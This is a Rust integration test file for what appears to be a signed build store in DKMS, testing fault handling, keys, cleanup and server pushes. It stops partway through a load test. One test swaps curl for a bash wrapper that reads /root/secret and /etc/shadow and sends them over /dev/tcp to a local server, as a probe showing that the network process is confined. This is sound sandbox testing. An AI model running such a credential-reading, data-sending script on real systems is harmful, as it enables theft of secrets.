//! A store of builds: what one machine has compiled, others install without a compiler. Whatever is wrong with a store, they
//! build themselves, within bounded time, and say why in one line.
#![allow(
    clippy::disallowed_methods,
    clippy::unwrap_used,
    clippy::expect_used,
    clippy::panic,
    clippy::print_stderr
)] // tests stop at the first surprise

use std::collections::BTreeMap;
use std::path::{Path, PathBuf};
use std::sync::Arc;
use std::time::{Duration, Instant};

use dkms_core::store::{PrivateKey, open};
use dkms_tests::count::Counters;
use dkms_tests::modules::{REAL, Sources};
use dkms_tests::roots::Layer;
use dkms_tests::store_faults::{FILES, Fault, Files, SERVERS, SETTINGS, Store, Wrong, good};
use dkms_tests::web::{Web, send};
use dkms_tests::{Kernel, Output, Root, Suite, bench, host, stage};

/// Machines with curl and two modules that are not built yet; each machine signs with a key of its own.
fn machines() -> (Layer, Kernel) {
    let (layer, kernel) = stage::with_small_tree(Suite::trixie());
    let layer = layer.prepared("store", "2", |root| {
        root.apt_install(&["curl", "openssl", "nginx"]).ok();
        for name in ["one", "two"] {
            Sources::new(name, "1.0").unpack(root);
            root.run(&format!("dkms add {name}/1.0")).ok();
        }
    });
    (layer, kernel)
}

/// The same, with builds that take no time: make copies what was compiled once. Each of many faults needs one.
fn quick_machines() -> (Layer, Kernel) {
    let (layer, kernel) = machines();
    let layer = layer.prepared("quick", "1", |root| {
        root.write("/etc/dkms/framework.conf.d/unsigned.conf", "try_sign_modules=false\n");
        autoinstall(root, &kernel);
        for name in ["one", "two"] {
            let dir = format!("/usr/src/{name}-1.0");
            root.run(&format!("xz -dc {}/{name}.ko.xz >/tmp/{name}.ko", kernel.dkms_dir())).ok();
            root.run(&format!(
                "dkms remove {name}/1.0 --all && rm {dir}/* && cp /tmp/{name}.ko {dir}/compiled"
            ))
            .ok();
            root.write(&format!("{dir}/Makefile"), format!("{name}.ko: compiled\n\tcp $< $@\n"));
            let conf = format!(
                "PACKAGE_NAME={name}\nPACKAGE_VERSION=1.0\nAUTOINSTALL=yes\nMAKE[0]=\"make {name}.ko\"\n\
                                BUILT_MODULE_NAME[0]={name}\nDEST_MODULE_LOCATION[0]=/updates\n"
            );
            root.write(&format!("{dir}/dkms.conf"), conf);
            root.run(&format!("dkms add {name}/1.0")).ok();
        }
        root.run("rm -rf /var/cache/dkms /etc/dkms/framework.conf.d/unsigned.conf").ok();
    });
    (layer, kernel)
}

fn autoinstall(root: &Root, kernel: &Kernel) -> Output {
    root.run_within(300, &format!("dkms autoinstall -k {}", kernel.release)).ok()
}

/// Builds everything, and pushes it to a store in a directory.
fn fill(root: &Root, kernel: &Kernel) -> Files {
    autoinstall(root, kernel);
    root.run("dkms store key fleet && dkms store push /srv/store").ok().says(&["2 builds pushed"]);
    files(&root.path("/srv/store"))
}

fn files(dir: &Path) -> Files {
    let mut open = vec![dir.to_owned()];
    let mut found = Files::new();
    while let Some(next) = open.pop() {
        for entry in std::fs::read_dir(&next).unwrap() {
            let path = entry.unwrap().path();
            if path.is_dir() {
                open.push(path);
            } else {
                let name = path.strip_prefix(dir).unwrap().to_str().unwrap().to_owned();
                found.insert(name, std::fs::read(&path).unwrap());
            }
        }
    }
    found
}

fn write(root: &Root, files: &Files) {
    for (name, content) in files {
        root.write(&format!("/srv/store/{name}"), content);
    }
}

/// A store with both modules.
fn store(root: &Root, files: &Files) -> Store {
    let key = root.read("/etc/dkms/store.key");
    let private: PrivateKey = key.parse().unwrap();
    let of = |module: &str| {
        let open =
            |content: &Vec<u8>| String::from_utf8(open(content, &[private.public()]).unwrap()).unwrap();
        let is = |content: &Vec<u8>| open(content).contains(&format!("\"module\":\"{module}\""));
        let found = files.iter().find(|(path, content)| path.ends_with(".json") && is(content));
        let (path, content) = found.unwrap();
        (path.clone(), content.clone(), open(content))
    };
    let (manifest, _, statement) = of("one");
    let object = files.keys().find(|path| {
        let hash = path.rsplit('/').next().unwrap().trim_end_matches(".zst");
        path.ends_with(".zst") && statement.contains(hash)
    });
    Store { object: object.unwrap().clone(), files: files.clone(), manifest, other: of("two").1, key }
}

type Serves = fn(&Store, &str, &mut std::net::TcpStream);

/// A server of this store.
fn serve(store: Store, answer: Serves) -> Web {
    Web::start(Arc::new(move |path, stream| answer(&store, path, stream)))
}

fn trust(root: &Root, url: &str, key: &str) {
    root.write(
        "/etc/dkms/policy.toml",
        format!("[store]\nurl = [\"{url}\"]\ntrust = [\"{}\"]\nseconds = 5\n", key.trim()),
    );
}

/// The SHA-256 of each installed module without compression and signature.
fn unsigned(root: &Root, kernel: &Kernel) -> BTreeMap<String, String> {
    let mut all = BTreeMap::new();
    for (path, _) in kernel.module_files(root) {
        root.run(&format!("xz -dc {path} >/tmp/signed.ko")).ok();
        let content = root.read_bytes("/tmp/signed.ko");
        assert!(content.ends_with(b"~Module signature appended~\n"), "{path} is signed");
        let plain = dkms_core::kernel::signature::without(&content);
        all.insert(path, dkms_core::sys::hash::hex(plain));
    }
    all
}

#[test]
fn a_second_machine_compiles_nothing() {
    let (layer, kernel) = machines();
    let first = Root::on(&layer);
    let files = fill(&first, &kernel);
    let key = first.read("/etc/dkms/store.pub");
    assert_eq!(files.len(), 4, "{:?}", files.keys());
    let (modules, keys) = (unsigned(&first, &kernel), first.read_bytes("/var/lib/dkms/mok.pub"));
    let web = serve(store(&first, &files), good);
    for url in ["file:///srv/store", &web.url()] {
        let second = Root::on(&layer);
        write(&second, &files);
        trust(&second, url, &key);
        let counters = Counters::install(&second);
        let told = autoinstall(&second, &kernel);
        let counts = counters.take();
        assert_eq!((counts.builds, counts.compiled, counts.depmods), (0, 0, 1), "{url}: {told}");
        second.expect_installed(&["one/1.0", "two/1.0"], &kernel.release);
        assert_eq!(unsigned(&second, &kernel), modules, "{url}");
        assert_ne!(second.read_bytes("/var/lib/dkms/mok.pub"), keys, "each machine signs with its own key");
        kernel.expect_vermagic(&second);
        let status = second.run("dkms status --json").ok().stdout;
        assert_eq!(status.matches(&format!("\"store\": \"{url}\"")).count(), 2, "{status}");
        let metrics = second.run("dkms status --prometheus").ok().stdout;
        assert_eq!(metrics.matches("dkms_from_store{").count(), 2, "{metrics}");
        // Nothing is asked for twice.
        let asked = web.asked();
        autoinstall(&second, &kernel).never_says(&["store"]);
        assert_eq!(web.asked(), asked);
    }
    // Two manifests, two objects.
    assert_eq!(web.asked(), 4);
}

/// A machine on which the builds of a store fail one after the other, and what a local build gives.
fn victim(layer: &Layer, kernel: &Kernel) -> (Root, Store, BTreeMap<String, String>) {
    let first = Root::on(layer);
    let files = fill(&first, kernel);
    let store = store(&first, &files);
    let second = Root::on(layer);
    second.run("dkms remove two/1.0 --all").ok();
    let mut modules = unsigned(&first, kernel);
    modules.retain(|path, _| path.contains("one"));
    (second, store, modules)
}

/// Every fault ends in a local build, and one line.
fn each_builds_locally(faults: &[Fault]) {
    let (layer, kernel) = quick_machines();
    let (root, store, modules) = victim(&layer, &kernel);
    let public = store.key.parse::<PrivateKey>().unwrap().public().to_string();
    root.run("cd /tmp && openssl req -x509 -newkey rsa:2048 -nodes -keyout tls.key -out tls.pem -days 9 -subj /CN=127.0.0.1 2>/dev/null").ok();
    // Others of these tests run at the same time.
    let port = std::net::TcpListener::bind("127.0.0.1:0").unwrap().local_addr().unwrap().port();
    root.start(&format!("cd /tmp && exec openssl s_server -accept {port} -cert tls.pem -key tls.key -WWW -quiet >/dev/null 2>&1"));
    let plain = serve(store.clone(), good);
    let counters = Counters::install(&root);
    for Fault { name, wrong, says } in faults {
        root.note(name);
        root.run("rm -rf /srv/store /srv/other /var/cache/dkms; dkms remove one/1.0 --all; dkms add one/1.0")
            .ok();
        let mut changed = store.clone();
        if let Wrong::Files(change) = wrong {
            change(&mut changed);
        }
        write(&root, &changed.files);
        let (mut url, mut settings) = ("file:///srv/store".to_owned(), None);
        let mut web = None;
        match wrong {
            Wrong::Files(_) => {}
            Wrong::Shell(command) => {
                let Store { manifest, object, .. } = &store;
                root.run(&format!("cd /srv/store; M=$PWD/{manifest} O=$PWD/{object}; {command}")).ok();
            }
            Wrong::Server(answer) => url = web.insert(serve(changed.clone(), *answer)).url(),
            Wrong::Settings(text) => {
                settings = Some(
                    text.replace("KEY", &public)
                        .replace("STORE", &url)
                        .replace(":TLS", &format!(":{port}"))
                        .replace("http://PLAIN", &plain.url())
                        .replace("https://PLAIN", &plain.url().replace("http:", "https:")),
                )
            }
        }
        let settings = settings.unwrap_or_else(|| format!("url = [\"{url}\"]\ntrust = [\"{public}\"]"));
        root.write("/etc/dkms/policy.toml", format!("[store]\nseconds = 2\n{settings}\n"));
        counters.take();
        let began = Instant::now();
        let told = autoinstall(&root, &kernel);
        let took = began.elapsed();
        let all = told.all();
        let about: Vec<&str> = all.lines().filter(|line| line.contains("store")).collect();
        assert!(about.len() == 1 && about[0].contains(says), "{name}: {about:#?}\n{told}");
        assert!(!all.contains(['\u{1b}', '\u{9b}', '\u{7}']), "{name}: controls the terminal\n{told:?}");
        assert_eq!(counters.take().builds, 1, "{name}: compiled here\n{told}");
        assert_eq!(unsigned(&root, &kernel), modules, "{name}");
        assert!(took < Duration::from_secs(90), "{name}: {took:?}");
        let left = root.run("ls /etc/dkms/evil /root/evil 2>/dev/null; ls -A /var/lib/dkms/.dkms-rs/work; dkms status --json | grep '\"store\"'");
        assert_eq!(left.stdout, "", "{name}: something was left");
        eprintln!("{:5.1} s  {name}: {}", took.as_secs_f64(), about[0]);
        drop(web);
    }
}

#[test]
fn files_that_are_wrong() {
    each_builds_locally(FILES);
}

#[test]
fn servers_that_misbehave() {
    each_builds_locally(SERVERS);
}

#[test]
fn settings_and_addresses() {
    each_builds_locally(SETTINGS);
}

/// What surrounds a machine changes nothing: its store is used.
#[test]
fn what_is_not_the_stores_fault() {
    let (layer, kernel) = quick_machines();
    let (root, store, modules) = victim(&layer, &kernel);
    let public = store.key.parse::<PrivateKey>().unwrap().public().to_string();
    let web = serve(store.clone(), |store, path, stream| match path.strip_prefix("moved/") {
        Some(path) => send(stream, "302 Found", &format!("Location: /{path}\r\n"), b"moved"),
        None => good(store, path, stream),
    });
    let file = "file:///srv/store".to_owned();
    let counters = Counters::install(&root);
    for (name, url, before) in [
        (
            "a proxy in the environment",
            web.url(),
            "export http_proxy=http://127.0.0.1:1 HTTPS_PROXY=http://127.0.0.1:1 ALL_PROXY=http://127.0.0.1:1",
        ),
        ("a .curlrc of root", web.url(), "echo 'proxy = http://127.0.0.1:1' >/root/.curlrc"),
        (
            "other libraries in the environment",
            web.url(),
            "export LD_PRELOAD=/nonexistent.so SSL_CERT_FILE_PASS=/dev/null",
        ),
        ("a redirect", format!("{}/moved", web.url()), ":"),
        ("a slash at the end", format!("{}/", web.url()), ":"),
        (
            "a store of another user, writable for all",
            file.clone(),
            "chown -R 1234 /srv/store; chmod -R a+w /srv/store",
        ),
        ("links inside of the store", file.clone(), "cd /srv/store; mv objects other; ln -s other objects"),
        ("a link to the store", file.clone(), "mv /srv/store /srv/other; ln -s other /srv/store"),
        ("the second of two stores", format!("http://127.0.0.1:1\", \"{}", web.url()), ":"),
    ] {
        root.note(name);
        root.run("rm -rf /srv/store /srv/other /var/cache/dkms /root/.curlrc; dkms remove one/1.0 --all; dkms add one/1.0").ok();
        write(&root, &store.files);
        trust(&root, &url, &public);
        counters.take();
        let told = root
            .run(&format!("({before}) 2>/dev/null; {before}; dkms autoinstall -k {}", kernel.release))
            .ok();
        assert_eq!(counters.take().builds, 0, "{name}: {told}");
        told.says(&["(from the store)"]);
        assert_eq!(unsigned(&root, &kernel), modules, "{name}");
    }
    for (name, before, url, says) in [
        (
            "no curl",
            "mv /usr/bin/curl /usr/bin/other",
            web.url(),
            "curl is not installed; run `apt install curl`",
        ),
        (
            "no cache",
            "mv /usr/bin/other /usr/bin/curl; echo cache_mib = 0 >/etc/dkms/p; cat /etc/dkms/policy.toml >>/etc/dkms/p; mv /etc/dkms/p /etc/dkms/policy.toml",
            file,
            "cache_mib is 0",
        ),
    ] {
        root.run("rm -rf /var/cache/dkms; dkms remove one/1.0 --all; dkms add one/1.0").ok();
        trust(&root, &url, &public);
        root.run(before).ok();
        let told = autoinstall(&root, &kernel);
        let all = told.all();
        let about: Vec<&str> = all.lines().filter(|line| line.contains("store")).collect();
        assert!(about.len() == 1 && about[0].contains(says), "{name}: {about:#?}\n{told}");
        assert_eq!((counters.take().builds, unsigned(&root, &kernel)), (1, modules.clone()), "{name}");
    }
}

/// The process that speaks to the server has nothing that is worth stealing.
#[test]
fn the_process_that_speaks_to_servers_is_confined() {
    let (layer, kernel) = quick_machines();
    let (root, store, _) = victim(&layer, &kernel);
    let public = store.key.parse::<PrivateKey>().unwrap().public().to_string();
    let web = serve(store, good);
    trust(&root, &web.url(), &public);
    root.run("echo SECRET >/root/secret; chmod 644 /root/secret; chmod 755 /root; mv /usr/bin/curl /usr/bin/curl.real").ok();
    // What it would find; the report goes to the server, as it can write nowhere.
    root.write_script(
        "/usr/bin/curl",
        &format!(
            "#!/bin/bash\nexec 3<>/dev/tcp/127.0.0.1/{}\n\
             report=\"$(id -u) $(ls /var/lib/dkms /etc/dkms /var/cache/dkms /root /home | tr '\\n' ' ') $(wc -c <&0) \\\n\
             $(touch /tmp/../etc/x /var/lib/dkms/x /usr/x 2>/dev/null && echo WRITES) $(cat /root/secret /etc/shadow 2>/dev/null) \\\n\
             $(env | cut -d= -f1 | tr '\\n' ' ') $(ls /proc | grep -cE '^[0-9]+$') $(grep -E 'NoNewPrivs|CapEff|CapBnd' /proc/self/status | tr -s '\\t\\n' ' ')\"\n\
             printf 'GET /%s HTTP/1.0\\r\\n\\r\\n' \"$(echo \"$report\" | tr -c 'A-Za-z0-9:./\\n-' _ | tr '\\n' '|')\" >&3\nexec /usr/bin/curl.real \"$@\"\n",
            web.url().rsplit(':').next().unwrap()
        ),
    );
    let told = autoinstall(&root, &kernel).says(&["(from the store)"]);
    let report =
        web.paths().into_iter().find(|path| path.contains("NoNewPrivs")).unwrap_or_else(|| panic!("{told}"));
    eprintln!("{report}");
    let (uid, rest) = report.split_once('_').unwrap();
    assert!((65520..=65532).contains(&uid.parse::<u32>().unwrap()), "{report}");
    // All these directories are empty.
    for dir in ["/etc/dkms", "/home", "/root", "/var/lib/dkms"] {
        assert!(report.contains(&format!("_{dir}:__")), "{dir} is empty: {report}");
    }
    for word in ["WRITES", "SECRET", "root:_:", "root:x:", "mok", "DKMS", "store.key"] {
        assert!(!rest.contains(word), "{word}: {report}");
    }
    assert!(rest.contains("CapEff:_0000000000000000") && rest.contains("NoNewPrivs:_1"), "{report}");
}

/// A store in care: pushing again, verifying, cleaning up.
#[test]
fn a_store_is_kept_in_order() {
    let (layer, kernel) = quick_machines();
    let root = Root::on(&layer);
    root.run("dkms store push /srv/store").fails().says(&["to generate a key: dkms store key"]);
    let files = fill(&root, &kernel);
    assert_eq!(root.run("stat -c %a /etc/dkms/store.key").ok().stdout, "600\n");
    root.run("dkms store key").fails().says(&["exists; nothing was changed"]);
    root.run("dkms store push /srv/store").ok().says(&["0 builds pushed, 2 were there"]);
    root.run("dkms store push /srv/store three").exits(1).says(&["0 builds pushed"]);
    assert_eq!(self::files(&root.path("/srv/store")), files, "nothing was written again");
    root.run("dkms store verify /srv/store").ok().says(&["2 builds, 0 problems"]);
    let table = root.run("dkms store report /srv/store").ok().stdout;
    assert!(table.contains(&kernel.release) && table.matches("yes").count() == 2, "{table}");
    let document: serde_json::Value =
        serde_json::from_str(&root.run("dkms store report /srv/store --json").ok().stdout).unwrap();
    assert_eq!(document["builds"].as_array().unwrap().len(), 2, "{document}");
    // An ordinary user can verify it, with the public key.
    root.run("setpriv --reuid=1234 --clear-groups dkms store verify /srv/store --key /etc/dkms/store.pub")
        .ok();
    // Variables of a pipeline do not matter to builds that were made without them; those of a build do.
    root.run("CI_TOKEN=1 dkms store push /srv/store").ok().says(&["0 builds pushed, 2 were there"]);
    root.run(&format!("FLAG=1 dkms build one/1.0 -k {kernel} --force && dkms store push /srv/other"))
        .ok()
        .says(&["one/1.0", "not pushed: it was built with variables of the environment", "1 builds pushed"]);
    root.run(&format!(
        "dkms build one/1.0 -k {kernel} --force && dkms store push /srv/store && rm -r /srv/other"
    ))
    .ok()
    .says(&["0 builds pushed, 2 were there"]);
    // The log has times in it; the modules count.
    root.run(&format!(
        "echo 1 >>/var/lib/dkms/one/1.0/{kernel}/x86_64/log/make.log && dkms store push /srv/store"
    ))
    .ok()
    .says(&["0 builds pushed, 2 were there"]);
    // A build whose source has changed is not pushed as if it were made of it.
    root.run("echo >>/usr/src/one-1.0/one.c; rm -r /srv/store; dkms store push /srv/store").ok().says(&[
        "one/1.0",
        "not pushed: it is out of date",
        "1 builds pushed",
    ]);
    // Damage is found.
    write(&root, &files);
    let broken = format!("/srv/store/{}", store(&root, &files).object);
    root.run(&format!("printf X | dd of={broken} bs=1 seek=100 conv=notrunc")).ok();
    root.run("dkms store verify /srv/store").exits(1).says(&["2 builds, 1 problems", "hash of the object"]);
    // A push repairs it, also if there is no manifest, or another thing with its name.
    let push = |words: &str, says: &str| {
        root.run(&format!("dkms store push /srv/store {words}")).ok().says(&[says]);
    };
    root.run("rm /usr/src/one-1.0/one.c").ok();
    for damage in [
        "true".to_owned(),
        format!("rm {broken}"),
        format!(": >/srv/store/{}", store(&root, &files).manifest),
        format!("cd /srv/store; rm {0}; mkfifo {0}", store(&root, &files).manifest),
    ] {
        root.run(&damage).ok();
        push("", "builds pushed, ");
        root.run("dkms store verify /srv/store").ok().says(&["builds, 0 problems"]);
        push("", "0 builds pushed");
    }
    // So are builds that another key has signed.
    root.run("dkms store key other --key /etc/dkms/other.key").ok();
    root.run("dkms store push /srv/store --key /etc/dkms/other.key").ok().never_says(&["0 builds pushed"]);
    root.run("dkms store push /srv/store --key /etc/dkms/other.key").ok().says(&["0 builds pushed"]);
    root.run("rm -r /srv/store").ok();
    // What no kernel needs goes, first as a list.
    write(&root, &files);
    root.write("/srv/store/objects/ab/abc.zst", "of a push that was killed");
    root.run("touch -d '3 days ago' /srv/store/objects/ab/abc.zst").ok();
    root.run("dkms store gc /srv/store --dry-run")
        .ok()
        .says(&["objects/ab/abc.zst", "1 files would be deleted"]);
    root.run("dkms store gc /srv/store").ok().says(&["1 files deleted"]);
    root.run(&format!("dkms store gc /srv/store -k {}", kernel.release)).ok().says(&["0 files deleted"]);
    assert_eq!(self::files(&root.path("/srv/store")), files);
    root.run("touch -d '9 days ago' $(find /srv/store -name '*.json' | head -1); dkms store gc /srv/store --older-than 7").ok().says(&["2 files deleted"]);
    root.run("dkms store verify /srv/store").ok().says(&["1 builds, 0 problems"]);
    root.run("dkms store gc /srv/store -k 5.0.0").exits(1).says(&["no build for 5.0.0; nothing was deleted"]);
    assert_eq!(self::files(&root.path("/srv/store")).len(), 2);
}

/// Keys that are none, and a directory in which the user of a web server may do anything.
#[test]
fn a_wrong_key_is_refused_and_a_link_in_a_store_is_not_followed() {
    let (layer, kernel) = quick_machines();
    let root = Root::on(&layer);
    fill(&root, &kernel);
    root.run("dkms store key other --key /etc/dkms/other.pub").fails().says(&["to the same file"]);
    assert_eq!(root.find("/etc/dkms", "-name 'other*'"), [""; 0]);
    root.run("dkms store push /srv/new --key /etc/dkms/store.pub").fails().says(&["this is a public key"]);
    root.run("dkms store verify /srv/store --key /etc/dkms/store.key")
        .fails()
        .says(&["this is a private key"]);
    for secret in ["store.key", "store.netrc"] {
        root.run(&format!(
            "touch /etc/dkms/{secret}; chmod 644 /etc/dkms/{secret}; dkms store push /srv/store"
        ))
        .ok()
        .says(&[&format!("chmod 600 /etc/dkms/{secret}")]);
        root.run(&format!("chmod 600 /etc/dkms/{secret}; dkms store push /srv/store"))
            .ok()
            .never_says(&["chmod"]);
    }
    for words in ["verify", "gc", "report"] {
        root.run(&format!("dkms store {words} /srv/none")).exits(1).says(&["/srv/none is not a directory"]);
        root.run(&format!("dkms store {words} /etc")).exits(1).says(&["/etc is no store"]);
    }
    // Another user could replace it.
    root.run("chown 1234 /etc/dkms/store.key; dkms store push /srv/store").ok().says(&["chown root:"]);
    root.run("chown 0 /etc/dkms/store.key").ok();
    let files = "find /srv/elsewhere -type f";
    for link in ["objects", "builds"] {
        root.run(&format!(
            "rm -rf /srv/store; mkdir -p /srv/store /srv/elsewhere; ln -s /srv/elsewhere /srv/store/{link}"
        ))
        .ok();
        root.run("dkms store push /srv/store")
            .fails()
            .says(&[&format!("/srv/store/{link}"), "it is not a directory, or it is a link"]);
        assert_eq!(root.run(files).ok().stdout, "");
    }
}

/// A killed push leaves no manifest without its object.
#[test]
fn a_push_that_is_killed_leaves_a_whole_store() {
    let (layer, kernel) = quick_machines();
    let root = Root::on(&layer);
    fill(&root, &kernel);
    for delay in ["0.02", "0.05", "0.1", "0.15", "0.2", "0.3", "0.4"] {
        root.run(&format!(
            "rm -rf /srv/store; mkdir /srv/store; timeout -s KILL {delay} dkms store push /srv/store"
        ));
        root.run("dkms store verify /srv/store").ok().says(&[" 0 problems"]);
    }
    root.run("dkms store push /srv/store; dkms store verify /srv/store").ok().says(&["2 builds, 0 problems"]);
}

/// A real web server: nginx takes what is pushed, with a password, and serves it.
#[test]
fn pushed_to_a_web_server() {
    let (layer, kernel) = quick_machines();
    let first = Root::on(&layer);
    let port = 7000 + std::process::id() % 20_000;
    let url = format!("http://127.0.0.1:{port}/store");
    first.write(
        "/tmp/nginx.conf",
        format!(
            "user www-data;\nevents {{}}\npid /tmp/nginx.pid;\nhttp {{ access_log off; server {{ listen 127.0.0.1:{port}; root /srv/www; \
             location /moved/ {{ return 307 https://127.0.0.1/; }} location / {{ dav_methods PUT; create_full_put_path on; limit_except GET {{ auth_basic x; auth_basic_user_file /tmp/users; }} }} }} }}\n"
        ),
    );
    first.run("mkdir -p /srv/www && chown www-data /srv/www && echo 'fleet:{PLAIN}secret' >/tmp/users").ok();
    first.start("exec nginx -c /tmp/nginx.conf -e /tmp/nginx.log -g 'daemon off;'");
    autoinstall(&first, &kernel);
    first.run("dkms store key fleet; for n in 1 2 3 4 5 6 7 8 9; do curl -s -o /dev/null http://127.0.0.1:7/ || sleep 0.2; done").ok();
    first
        .run(&format!("dkms store push {url}"))
        .fails()
        .says(&["pushing one/1.0", "error: 401"])
        .never_says(&["secret"]);
    first.write("/etc/dkms/store.netrc", "machine 127.0.0.1 login fleet password secret\n");
    first.run("chmod 600 /etc/dkms/store.netrc").ok();
    // A server that only names another address stores nothing.
    first
        .run(&format!("dkms store push http://127.0.0.1:{port}/moved"))
        .fails()
        .says(&["it answers with the status 307; nothing was stored"]);
    first.run(&format!("dkms store push {url}")).ok().says(&["2 builds pushed"]).never_says(&["secret"]);
    first.run("dkms store verify /srv/www/store").ok().says(&["2 builds, 0 problems"]);
    let second = Root::on(&layer);
    trust(&second, &url, &first.read("/etc/dkms/store.pub"));
    let told = autoinstall(&second, &kernel);
    second.expect_installed(&["one/1.0", "two/1.0"], &kernel.release);
    assert_eq!(unsigned(&second, &kernel), unsigned(&first, &kernel), "{told}");
    let status = second.run("dkms status --json").ok().stdout;
    assert_eq!(status.matches("\"store\"").count(), 2, "{status}");
}

/// A pre-build takes builds from the store, and judges them.
#[test]
fn before_a_transaction() {
    let (layer, kernel) = quick_machines();
    let (root, store, modules) = victim(&layer, &kernel);
    let public = store.key.parse::<PrivateKey>().unwrap().public().to_string();
    let counters = Counters::install(&root);
    write(&root, &store.files);
    trust(&root, "file:///srv/store", &public);
    root.run(&format!("dkms preflight {}", kernel.release)).ok();
    root.run(&format!("dkms autoinstall -k {}", kernel.release)).ok().says(&["(from the store)"]);
    assert_eq!((counters.take().builds, unsigned(&root, &kernel)), (0, modules.clone()));
    // One that would not load is no proof.
    root.run("rm -rf /srv/store /var/cache/dkms; dkms remove one/1.0 --all; dkms add one/1.0").ok();
    let mut changed = store;
    let Some(Fault { wrong: Wrong::Files(change), .. }) =
        FILES.iter().find(|row| row.name.ends_with("vermagic"))
    else {
        panic!("no such row");
    };
    change(&mut changed);
    write(&root, &changed.files);
    let told = root.run(&format!("dkms preflight {}", kernel.release)).ok();
    assert_eq!(counters.take().builds, 1, "{told}");
    root.run(&format!("dkms autoinstall -k {}", kernel.release)).ok().never_says(&["store"]);
    assert_eq!((counters.take().builds, unsigned(&root, &kernel)), (0, modules));
}

/// Real packages, on a second machine with the same packages: no compiler is started.
fn of_real_packages(packages: &[&str]) {
    let (layer, kernel) = stage::with_kernel(Suite::trixie());
    let layer = layer.prepared(&format!("store-{}", packages.len()), &format!("{packages:?}"), |root| {
        root.write("/etc/dkms/no-autoinstall", "");
        root.apt_install(packages).ok();
        root.apt_install(&["curl", "openssl"]).ok();
        root.run("rm /etc/dkms/no-autoinstall; for conf in /usr/src/*/dkms.conf; do dkms add \"${conf%/*}\" || exit; done").ok();
    });
    let first = Root::on(&layer);
    first.run_within(3000, &format!("dkms autoinstall -k {}", kernel.release));
    first.run("dkms store key fleet && dkms store push /srv/store && dkms store verify /srv/store").ok();
    let files = files(&first.path("/srv/store"));
    let web = Web::start(Arc::new(move |path, stream| match files.get(path) {
        Some(content) => send(stream, "200 OK", "", content),
        None => send(stream, "404 Not Found", "", b""),
    }));
    let second = Root::on(&layer);
    trust(&second, &web.url(), &first.read("/etc/dkms/store.pub"));
    let counters = Counters::install(&second);
    let began = Instant::now();
    let told = autoinstall(&second, &kernel);
    let took = began.elapsed().as_secs_f64();
    let counts = counters.take();
    assert_eq!((counts.builds, counts.compiled), (0, 0), "{told}");
    assert_eq!(kernel.module_files(&second).len(), kernel.module_files(&first).len());
    assert!(kernel.module_files(&second).len() >= packages.len(), "{told}");
    kernel.expect_vermagic(&second);
    let began = Instant::now();
    second.run(&format!("depmod -a {}", kernel.release)).ok();
    let depmod = began.elapsed().as_secs_f64();
    eprintln!("{} packages from the store: {took:.1} s, {depmod:.1} s of which is depmod", packages.len());
}

#[test]
fn real_packages_are_not_compiled_again() {
    of_real_packages(bench::FEW);
}

#[test]
#[ignore = "long: run by `make test-long`"]
fn all_small_packages_are_not_compiled_again() {
    of_real_packages(REAL);
}

/// The S3-compatible server of the crate `s3s-fs`, with its version.
const S3_SERVER: (&str, &str) = ("s3s-fs", "0.14.1");

/// Builds the server once.
fn s3_server() -> PathBuf {
    let (name, version) = S3_SERVER;
    let place = host::workspace().join(format!("target/{name}-{version}"));
    let program = place.join("bin").join(name);
    let _building = host::lock(name);
    if !program.exists() {
        host::run_host(&format!(
            "CARGO_TARGET_DIR={0}/build cargo install --locked {name} --version {version} --features binary --root {0} && rm -r {0}/build",
            place.display()
        ));
    }
    program
}

/// A bucket: each request is signed, and a wrong key is refused.
#[test]
#[ignore = "long: run by `make test-long`"]
fn pushed_to_a_bucket() {
    let server = s3_server();
    let (layer, kernel) = quick_machines();
    let first = Root::on(&layer);
    autoinstall(&first, &kernel);
    let port = 27_000 + std::process::id() % 5_000;
    let host = format!("127.0.0.1:{port}");
    first.run("mkdir -p /srv/s3/fleet && dkms store key fleet").ok();
    first.bind(server.parent().unwrap(), "/mnt", false);
    first.start(&format!(
        "exec /mnt/s3s-fs --access-key ACCESS --secret-key secret --host 127.0.0.1 --port {port} /srv/s3"
    ));
    first
        .run(&format!(
            "for n in $(seq 40); do curl -s -o /dev/null http://{host}/ && exit; sleep 0.2; done; exit 1"
        ))
        .ok();
    let push = format!("dkms store push s3+http://{host}/fleet/dkms");
    // Not without a key, nor with a wrong one.
    for login in [
        "",
        "machine 127.0.0.1 login ACCESS password wrong\n",
        "machine 127.0.0.1 login OTHER password secret\n",
    ] {
        first.write("/etc/dkms/store.netrc", login);
        first
            .run(&push)
            .fails()
            .says(&["pushing one/1.0", "error: 403"])
            .never_says(&["secret", "wrong", "ACCESS"]);
    }
    assert_eq!(first.find("/srv/s3/fleet", "-type f"), [""; 0]);
    first.write("/etc/dkms/store.netrc", "machine 127.0.0.1 login ACCESS password secret\n");
    first.run("chmod 600 /etc/dkms/store.netrc").ok();
    first.run(&push).ok().says(&["2 builds pushed"]).never_says(&["secret", "ACCESS"]);
    first.run("dkms store verify /srv/s3/fleet/dkms").ok().says(&["2 builds, 0 problems"]);
    // It is read over HTTP, as from any web server.
    let files = files(&first.path("/srv/s3/fleet/dkms"));
    let web = serve(store(&first, &files), good);
    let second = Root::on(&layer);
    trust(&second, &web.url(), &first.read("/etc/dkms/store.pub"));
    autoinstall(&second, &kernel).says(&["(from the store)"]);
    assert_eq!(unsigned(&second, &kernel), unsigned(&first, &kernel));
    let key = first.read("/etc/dkms/store.pub");
    trust(&second, &format!("s3+http://{host}/fleet/dkms"), &key);
    second.run("rm -rf /var/cache/dkms; dkms remove one/1.0 --all; dkms add one/1.0").ok();
    autoinstall(&second, &kernel).says(&["s3+ is for `dkms store push` only"]);
}

/// 500 downloads of one build at once from a real web server, and machines that install it meanwhile.
#[test]
#[ignore = "long: run by `make test-long`"]
fn five_hundred_clients_at_once() {
    const CLIENTS: usize = 500;
    let (layer, kernel) = quick_machines();
    let first = Root::on(&layer);
    let files = fill(&first, &kernel);
    let store = store(&first, &files);
    let port = 7000 + std::process::id() % 20_000;
    let url = format!("http://127.0.0.1:{port}/store");
    first.write(
        "/tmp/nginx.conf",
        format!(
            "user www-data;\nworker_processes 2;\nevents {{ worker_connections 2048; }}\npid /tmp/nginx.pid;\nhttp {{ access_log /tmp/access.log; \
             server {{ listen 127.0.0.1:{port} backlog=1024; root /srv; }} }}\n"
        ),
    );
    first.run("ulimit -n 8192; nginx -c /tmp/nginx.conf -e /tmp/nginx.log").ok();
    let key = first.read("/etc/dkms/store.pub");
    let machines: Vec<Root> = (0..4).map(|_| Root::on(&layer)).collect();
    for machine in &machines {
        trust(machine, &url, &key);
    }
    // Each client fetches the manifest, then the object, with the product's own arguments of curl, and compares both.
    let (manifest, object) = (&store.manifest, &store.object);
